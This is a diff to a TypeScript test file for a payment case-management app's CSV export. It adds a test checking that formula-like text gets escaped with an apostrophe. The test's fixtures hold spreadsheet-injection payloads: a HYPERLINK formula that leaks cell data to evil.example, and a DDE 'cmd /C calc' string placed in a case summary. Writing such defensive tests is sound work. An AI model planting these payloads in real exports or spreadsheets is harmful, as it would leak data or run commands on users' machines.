@@ -17,6 +17,7 @@ import {
   staffAuditLog,
 } from "@/db/schema";
 import { CASE_EXPORT_CSV_COLUMNS } from "@/server/cases/case-export";
+import { parseCsv } from "@/server/stores/csv";
 import { database, paidPayment, payRequest, uniqueId } from "../fixtures/gateway";
 import { ALIPAY_TIME, textMatching } from "../fixtures/matchers";
 import { decisionsOf } from "../fixtures/risk";
@@ -43,6 +44,16 @@ async function refusal(promise: Promise<unknown>): Promise<string> {
     if (error instanceof TRPCError) return error.code;
     throw error;
   }
+}
+
+/** An exported CSV's data rows as column → cell, read with the project's RFC 4180 parser. */
+function csvRows(content: string): Record<string, string>[] {
+  const [header, ...records] = parseCsv(content);
+  expect(header).toEqual({ line: 1, fields: [...CASE_EXPORT_CSV_COLUMNS] });
+  return records.map((record) => {
+    if (!("fields" in record)) throw new Error(`line ${record.line}: ${record.error}`);
+    return Object.fromEntries(CASE_EXPORT_CSV_COLUMNS.map((c, i) => [c, record.fields[i]!]));
+  });
 }
 
 async function auditOf(caseId: string) {
@@ -589,9 +600,8 @@ describe("export", () => {
     expect(lines[0]).toBe(CASE_EXPORT_CSV_COLUMNS.join(","));
     expect(lines).toHaveLength(1 + 3 + 1); // header, 3 rows, the final CRLF
     expect(lines.at(-1)).toBe("");
-    const cells = (line: string) =>
-      Object.fromEntries(CASE_EXPORT_CSV_COLUMNS.map((c, i) => [c, line.split(",")[i]]));
-    expect(cells(lines[1]!)).toMatchObject({
+    const rows = csvRows(csv.content);
+    expect(rows[0]).toMatchObject({
       caseId,
       status: "CONCLUDED",
       finding: "CONFIRMED_ABUSE",
@@ -603,13 +613,49 @@ describe("export", () => {
       promotions: "PROMO-AUTUMN-300 KRW 2790; PROMO-NEWUSER-100 KRW 930",
       decisionOutcome: decision!.outcome,
     });
-    expect(cells(lines[3]!)).toMatchObject({ itemDeviceId: unknownDevice, paymentId: "" });
+    expect(rows[2]).toMatchObject({ itemDeviceId: unknownDevice, paymentId: "" });
     const exportsNow = (await api.cases.get({ caseId })).exports;
     expect(exportsNow.map((e) => [e.exportId, e.format])).toEqual([
       [csv.exportId, "CSV"],
       [exported.exportId, "JSON"],
     ]);
     expect(exportsNow[0]?.bytes).toBe(Buffer.byteLength(csv.content));
+  });
+
+  it("writes text a spreadsheet would run as a formula as text, and amounts as numbers", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Uji Sabo")';
+    const order = payRequest("x").order;
+    const paid = await paidPayment({
+      order: {
+        ...order,
+        merchant: { ...order.merchant, merchantName: formula, merchantDisplayName: formula },
+      },
+    });
+    const caseId = uniqueId("=1+1");
+    await api.cases.create({
+      caseId,
+      raisedAt: new Date(Date.now() + 1000).toISOString(),
+      reason: "Promotion abuse",
+      items: [{ paymentRequestId: paid.paymentRequestId }],
+    });
+    await api.cases.setStatus({ caseId, status: "INVESTIGATING" });
+    const summary = "-2+3+cmd|' /C calc'!A0";
+    await api.cases.conclude({ caseId, finding: "CONFIRMED_ABUSE", summary });
+
+    const csv = await api.cases.export({ caseId, format: "CSV" });
+    const [row] = csvRows(csv.content);
+    expect(row).toMatchObject({
+      caseId: `'${caseId}`,
+      summary: `'${summary}`,
+      merchantName: `'${formula}`,
+      status: "CONCLUDED",
+      payToValue: "16740",
+    });
+    // Text quoted, amounts bare: `,"'=HYPERLINK(…)",…,"KRW",16740,`.
+    expect(csv.content).toContain(
+      `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Uji Sabo"")",`,
+    );
+    expect(csv.content).toContain(`,"JPY",1800,"KRW",16740,`);
   });
 });
 
